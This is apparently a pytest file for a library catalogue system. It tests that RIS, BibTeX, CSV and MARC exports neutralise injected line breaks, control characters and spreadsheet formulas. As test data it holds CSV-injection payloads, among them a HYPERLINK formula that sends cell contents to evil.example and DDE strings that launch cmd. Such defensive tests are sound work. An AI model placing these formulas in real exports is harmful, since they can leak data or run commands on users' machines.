"""Exports keep catalogue text as data: no RIS record split by a line break in a field, no
spreadsheet formula in a CSV download (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

EVIL_TITLE = "Judul\r\nER  - \r\nTY  - JOUR\rTI  - Palsu\u2028AU  - Penyusup"


@pytest.fixture
def evil_record(load_records):
    [rid] = load_records([dict(title=EVIL_TITLE, authors=["Hirata,\nAndrea\r\nER  - "], year=2005,
                               publisher="Bentang\r\nTY  - BOOK", subjects=["Novel\nKW  - x"],
                               summary="Satu\r\n\r\nER  - ", items=[{"barcode": "EV1", "location": "PUSAT"}])])
    return rid


def test_ris_stays_one_record_whatever_the_fields_hold(client, evil_record):
    body = client.get(f"/record/{evil_record}/cite.ris").get_data(as_text=True)
    lines = body.split("\r\n")
    assert lines[-1] == "" and lines[-2] == "ER  - "
    # every line is a tag line, exactly one TY and one ER, and no other line-break character survives
    assert all(line[:2].isalnum() and line[2:6] == "  - " for line in lines[:-1]), lines
    assert sum(line.startswith("TY  - ") for line in lines) == 1
    assert sum(line.startswith("ER  - ") for line in lines) == 1
    for ch in "\r\n\v\f\x85\u2028\u2029":
        assert all(ch not in line for line in lines)
    assert "TI  - Judul ER  -  TY  - JOUR TI  - Palsu AU  - Penyusup" in lines


def test_bibtex_fields_stay_on_one_line(client, evil_record):
    bib = client.get(f"/record/{evil_record}/cite.bib").get_data(as_text=True)
    fields = bib.strip().split("\n")
    assert fields[0].startswith("@book{") and fields[-1] == "}"
    assert all(f.startswith("  ") and " = {" in f for f in fields[1:-1]), fields
    assert "\r" not in bib and "\u2028" not in bib


def test_history_csv_has_no_formulas(app, client, load_records, make_patron, login):
    from opac.catalog.models import Location
    from opac.circulation import actions
    from opac.extensions import db

    titles = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
              "\t=1+1", "\r=1+1", "\uff1d1+1", "Laskar Pelangi"]
    load_records([dict(title=t, authors=["=cmd|' /C calc'!A0"], items=[{"barcode": f"CSV{i}", "location": "PUSAT"}])
                  for i, t in enumerate(titles)])
    pid, card, pin = make_patron()
    with app.test_request_context():
        db.session.scalar(select(Location)).is_pickup = True
        db.session.commit()
        for i in range(len(titles)):
            assert actions.checkout(card, f"CSV{i}")["ok"], i
            assert actions.checkin(f"CSV{i}")["ok"]
    login(card, pin)
    r = client.get("/account/history.csv")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert len(rows) == len(titles)
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), (name, cell)
    got = {row["title"] for row in rows}
    assert {"'" + t for t in titles[:-1]} | {"Laskar Pelangi"} == got  # the text itself is kept, just quoted
    assert all(row["authors"] == "'=cmd|' /C calc'!A0" for row in rows)
    # dates stay plain (a due date is not a formula)
    assert all(row["due"][:1].isdigit() for row in rows)


def test_marc_exports_stay_well_formed_with_control_characters(app, client, runner, load_records, tmp_path):
    """MARC's own delimiters (0x1D record, 0x1E field, 0x1F subfield) or other control characters in
    a field would end a record early in MARC21 and make MARCXML unparsable."""
    import xml.etree.ElementTree as ET

    import pymarc

    [rid] = load_records([dict(title="Judul\x1d\x1ePalsu\x1fa\x07\r\nbaru", authors=["Penulis\x1e"],
                               summary="Ringkas\x0b\x0c", items=[{"barcode": "MC1\x1d", "location": "PUSAT"}]),
                          ])
    xml_page = client.get(f"/record/{rid}/marc.xml")
    assert xml_page.status_code == 200
    ET.fromstring(xml_page.data)  # parses
    for fmt in ("mrc", "xml"):
        out = tmp_path / f"all.{fmt}"
        result = runner.invoke(args=["export", "--format", fmt, "-o", str(out)])
        assert result.exit_code == 0, result.output
        if fmt == "xml":
            root = ET.parse(out).getroot()
            assert len([e for e in root if e.tag.endswith("record")]) == 1
        else:
            records = list(pymarc.MARCReader(out.read_bytes(), to_unicode=True, force_utf8=True))
            assert len(records) == 1 and records[0] is not None
            assert records[0]["245"]["a"].startswith("Judul") and "baru" in records[0]["245"]["a"]
